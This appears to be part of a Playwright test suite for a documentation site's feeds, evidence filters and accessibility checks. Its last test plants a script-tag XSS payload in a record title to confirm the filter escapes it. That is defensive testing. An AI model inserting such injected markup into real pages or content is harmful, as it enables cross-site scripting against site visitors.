    current = page.locator(".md-nav--primary .md-nav__link").filter(has_text="Propositions").first
    assert active.evaluate("a => getComputedStyle(a).color") != current.evaluate("a => getComputedStyle(a).color")


def test_a_paged_list_on_a_phone_has_no_axe_violations(served, visit):
    _assert_accessible(visit, served["paged"] + PAGED_PAGES["updates-page-3"], "paged", **MOBILE)


# -- (e) feed discovery ---------------------------------------------------------------------------------


def test_every_page_advertises_the_site_feeds(served, visit):
    one = visit()
    for name in ("home", "evidence", "updates", "not-found"):
        page = one.goto(served["default"] + PAGES[name])
        links = page.locator("head link[rel='alternate'][type$='+xml']")
        hrefs = links.evaluate_all("ls => ls.map(l => l.href)")
        types = links.evaluate_all("ls => ls.map(l => l.type)")
        site_feeds = [h for h in hrefs if h.endswith(("/feeds/rss.xml", "/feeds/atom.xml"))]
        assert sorted(h.rsplit("/", 1)[1] for h in site_feeds) == ["atom.xml", "rss.xml"], f"{name}: {hrefs}"
        assert {"application/rss+xml", "application/atom+xml"} <= set(types)
        for href in site_feeds:
            assert href.startswith(served["default"]), f"{name}: feed link {href} points outside the site"
            response = one.page.request.get(href, timeout=TIMEOUT_MS)
            assert response.ok and b"<" in response.body(), f"{name}: {href} does not serve a feed"


def test_a_proposition_page_advertises_its_own_feeds(served, visit):
    one = visit()
    page = one.goto(served["default"] + PROPOSITION)
    links = page.locator("head link[rel='alternate'][type$='+xml']")
    found = {
        (link["type"], link["href"].rsplit("/", 1)[1]): link["title"]
        for link in links.evaluate_all("ls => ls.map(l => ({type: l.type, href: l.href, title: l.title}))")
    }
    assert ("application/rss+xml", "future-can-be-local.rss.xml") in found
    assert ("application/atom+xml", "future-can-be-local.atom.xml") in found
    assert all(title.strip() for title in found.values()), f"a feed link has no title: {found}"
    for flavour in ("rss", "atom"):
        response = one.page.request.get(
            f"{served['default']}feeds/future-can-be-local.{flavour}.xml", timeout=TIMEOUT_MS
        )
        assert response.ok


# -- combined filters on the evidence index -----------------------------------------------------------
# A progressive enhancement (docs/javascripts/evidence-filters.js over the build's
# downloads/evidence-filters.json): with JavaScript the section "Filter the evidence" gains four menus whose
# choices combine, show in the address and come back with it; without JavaScript it links the browse pages.

FILTERS_INDEX = "evidence/"


def filter_rows(default_site) -> list[dict]:
    """The evidence rows the build wrote for the filters."""
    data = json.loads((default_site.site / "downloads" / "evidence-filters.json").read_text(encoding="utf-8"))
    return data["records"]


def filtered(page) -> list[str]:
    """The titles the filter lists, in order, once the script has built the form (it fetches its data)."""
    page.wait_for_selector("form.publication-filters")
    return page.locator(".publication-filters__results li a").all_inner_texts()


def test_choices_combine_and_list_exactly_the_matching_records(served, visit, default_site):
    page = visit().goto(served["default"] + FILTERS_INDEX)
    page.select_option("#publication-filter-nation", "wales")
    wales = sorted(r["title"] for r in filter_rows(default_site) if "wales" in r["nation"])
    assert sorted(filtered(page)) == wales and len(wales) >= 2
    page.select_option("#publication-filter-kind", "case-study")
    both = sorted(r["title"] for r in filter_rows(default_site) if "wales" in r["nation"] and r["kind"] == "case-study")
    assert sorted(filtered(page)) == both and 0 < len(both) < len(wales)
    status = page.locator(".publication-filters__status")
    assert status.get_attribute("role") == "status"
    assert status.inner_text().startswith(f"{len(both)} record") and "nation: Wales" in status.inner_text()
    query = parse_qs(urlsplit(page.url).query)
    assert query == {"nation": ["wales"], "kind": ["case-study"]}


def test_the_address_restores_the_choice_and_back_undoes_it(served, visit, default_site):
    page = visit().goto(served["default"] + FILTERS_INDEX + "?kind=report&nation=uk-wide")
    assert page.locator("#publication-filter-kind").input_value() == "report"
    expected = sorted(
        r["title"] for r in filter_rows(default_site) if r["kind"] == "report" and "uk-wide" in r["nation"]
    )
    assert sorted(filtered(page)) == expected and expected
    page.select_option("#publication-filter-kind", "")
    page.go_back()
    page.wait_for_function("document.querySelector('#publication-filter-kind').value === 'report'")
    assert sorted(filtered(page)) == expected


def test_results_link_to_the_record_pages(served, visit):
    page = visit().goto(served["default"] + FILTERS_INDEX + "?nation=wales")
    title = filtered(page)[0]
    page.locator(".publication-filters__results li a").first.click()
    page.wait_for_load_state("load")
    assert page.locator("h1").first.inner_text().startswith(title)  # then the heading's permalink


def test_keyboard_only_a_reader_can_filter_and_clear(served, visit):
    page = visit().goto(served["default"] + FILTERS_INDEX)
    page.focus("#publication-filter-nation")
    page.keyboard.press("ArrowDown")  # the first nation after "Any"
    assert page.locator("#publication-filter-nation").input_value() != ""
    assert filtered(page)
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")  # past kind, theme and proposition to "Clear filters"
    assert page.evaluate("document.activeElement.textContent") == "Clear filters"
    page.keyboard.press("Enter")
    assert filtered(page) == [] and urlsplit(page.url).query == ""


def test_without_javascript_the_section_links_the_browse_pages(served, visit):
    page = visit(java_script_enabled=False).goto(served["default"] + FILTERS_INDEX)
    section = page.locator("#section_filter-the-evidence")
    assert section.count() == 1
    assert page.locator("form.publication-filters").count() == 0
    link = page.locator("#section_filter-the-evidence + p a")
    assert link.inner_text() == "Browse" and link.get_attribute("href").endswith("browse/")


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [1280, 375])
def test_the_filters_have_no_axe_violations(served, visit, scheme, width):
    one = visit(color_scheme=scheme, viewport={"width": width, "height": 900})
    page = one.goto(served["default"] + FILTERS_INDEX + "?nation=scotland")
    assert filtered(page)
    violations = axe_module.Axe().run(page, options=AXE_OPTIONS).response["violations"]
    assert not violations, _axe_report(violations)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    assert not one.errors and not one.outside_requests()


def test_markup_in_a_listed_title_is_shown_as_text_and_never_runs(served, visit):
    one = visit()
    page = one.goto(served["hostile"] + FILTERS_INDEX + "?kind=case-study")
    titles = filtered(page)
    hostile = [t for t in titles if t.startswith("Zebrafish")]
    assert len(hostile) == 1 and "<script>alert(2)</script>" in hostile[0]  # the characters, as text
    link = page.locator(".publication-filters__results a", has_text="Zebrafish")
    assert link.get_attribute("href").endswith(f"/evidence/{HOSTILE_ID}/")
    assert link.get_attribute("onmouseover") is None
    link.hover()
    assert one.dialogs == [] and _injected(page) == []
